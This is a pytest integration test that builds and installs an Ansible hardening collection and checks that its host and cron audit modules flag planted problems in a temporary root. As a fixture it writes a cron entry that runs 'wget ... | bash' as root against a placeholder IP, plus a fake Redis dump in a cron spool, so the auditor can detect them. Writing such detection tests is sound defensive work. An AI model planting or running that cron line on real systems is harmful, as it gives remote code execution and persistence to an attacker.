"""The collection as a user gets it: `ansible-galaxy collection build` -> tarball ->
`ansible-galaxy collection install` into a temp path -> a playbook in a temp directory
outside the repository runs the modules and filters by FQCN against localhost."""
import json
import os
import subprocess
import sys
import tarfile
import textwrap

import pytest
from ansible_collections.hostguard.hardening.plugins.module_utils.core.registry import area_names

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
BIN = os.path.dirname(sys.executable)


def clean_env(collections_path, workdir):
    env = dict(os.environ)
    for key in list(env):
        if key.startswith("ANSIBLE_"):
            del env[key]
    env.update(ANSIBLE_COLLECTIONS_PATH=str(collections_path),
               ANSIBLE_CONFIG=str(workdir / "ansible.cfg"),   # not the repository's
               ANSIBLE_HOME=str(workdir / ".ansible"),
               ANSIBLE_LOCAL_TEMP=str(workdir / ".ansible-tmp"),
               ANSIBLE_NOCOLOR="1")
    env["PATH"] = BIN + os.pathsep + env.get("PATH", "")
    return env


def run(cmd, **kw):
    proc = subprocess.run(cmd, capture_output=True, text=True, check=False, **kw)
    assert proc.returncode == 0, "%s\n%s\n%s" % (cmd, proc.stdout[-3000:], proc.stderr[-3000:])
    return proc


@pytest.fixture(scope="module")
def installed(tmp_path_factory):
    base = tmp_path_factory.mktemp("hg-harness-collection")
    workdir = base / "work"
    workdir.mkdir()
    (workdir / "ansible.cfg").write_text("[defaults]\nretry_files_enabled = false\n"
                                         "interpreter_python = auto_silent\n")
    build = base / "build"
    coll = base / "collections"
    env = clean_env(coll, workdir)
    run([os.path.join(BIN, "ansible-galaxy"), "collection", "build", "--force",
         "--output-path", str(build), REPO], cwd=str(workdir), env=env)
    tarballs = sorted(build.glob("hostguard-hardening-*.tar.gz"))
    assert len(tarballs) == 1, list(build.iterdir())
    run([os.path.join(BIN, "ansible-galaxy"), "collection", "install", "--force",
         "-p", str(coll), str(tarballs[0])], cwd=str(workdir), env=env)
    return {"tarball": tarballs[0], "collections": coll, "workdir": workdir, "env": env}


def test_tarball_ships_the_plugins_and_not_the_checkout_clutter(installed):
    with tarfile.open(str(installed["tarball"])) as tar:
        names = tar.getnames()
    for needed in ("MANIFEST.json", "plugins/modules/host_audit.py", "plugins/modules/cron_audit.py",
                   "plugins/module_utils/core/registry.py", "plugins/module_utils/core/runner.py",
                   "plugins/plugin_utils/report.py", "plugins/plugin_utils/templates/host.html.j2",
                   "plugins/filter/report.py", "roles/audit/tasks/main.yml",
                   "roles/audit/meta/argument_specs.yml", "playbooks/audit.yml"):
        assert needed in names, needed
    for name in names:
        top = name.split("/")[0]
        assert top not in (".collections", ".venv", ".cache", ".git", "reports", "build"), name
        assert "__pycache__" not in name, name


def test_installed_collection_is_the_one_ansible_uses(installed):
    proc = run([os.path.join(BIN, "ansible-doc"), "--json", "hostguard.hardening.host_audit"],
               cwd=str(installed["workdir"]), env=installed["env"])
    doc = json.loads(proc.stdout)["hostguard.hardening.host_audit"]["doc"]
    assert doc["filename"].startswith(str(installed["collections"])), doc["filename"]


def test_modules_and_filters_run_by_fqcn_from_outside_the_repo(installed):
    workdir = installed["workdir"]
    root = workdir / "target"
    (root / "var" / "spool" / "cron").mkdir(parents=True)
    (root / "etc" / "cron.d").mkdir(parents=True)
    (root / "etc" / "passwd").write_text("root:x:0:0:root:/root:/bin/sh\n")
    (root / "var" / "spool" / "cron" / "dump.rdb").write_bytes(b"REDIS0009" + b"\0" * 65536)
    (root / "etc" / "cron.d" / "evil").write_text(
        "* * * * * root wget -qO- http://203.0.113.9/x | bash\n")
    out = workdir / "out.json"
    playbook = workdir / "site.yml"
    playbook.write_text(textwrap.dedent("""\
        - hosts: localhost
          connection: local
          gather_facts: false
          vars:
            ansible_python_interpreter: "{{{{ ansible_playbook_python }}}}"
          tasks:
            - hostguard.hardening.host_audit:
                root: {root}
              register: agg
            - hostguard.hardening.cron_audit:
                root: {root}
              register: cron
            - ansible.builtin.copy:
                dest: {out}
                mode: "0600"
                content: "{{{{ {{'agg': agg, 'cron': cron,
                   'report': agg | hostguard.hardening.hostguard_report('localhost'),
                   'lines': agg | hostguard.hardening.hostguard_report('localhost')
                            | hostguard.hardening.hostguard_report_summary(5)}} | to_json }}}}"
        """).format(root=root, out=out))
    proc = run([os.path.join(BIN, "ansible-playbook"), "-i", "localhost,", str(playbook)],
               cwd=str(workdir), env=installed["env"])
    assert "changed=1" in proc.stdout          # only the copy of our output file
    data = json.loads(out.read_text())
    for name in ("agg", "cron"):
        fails = set((f["id"], f["subject"]) for f in data[name]["findings"] if f["status"] == "fail")
        assert ("HG-CRON-001", "/var/spool/cron/dump.rdb") in fails, name
        assert ("HG-CRON-010", "/etc/cron.d/evil") in fails, name
        assert data[name]["changed"] is False
    assert data["agg"]["areas"] == area_names()
    # no area crashed on the bare alternate root (checks that cannot evaluate say so themselves)
    assert [f for f in data["agg"]["findings"] if f["id"] == "HG-CORE-001"] == []
    assert data["report"]["host"] == "localhost"
    assert data["report"]["summary"]["worst_severity"] == "critical"
    assert data["lines"][0].startswith("localhost: ")
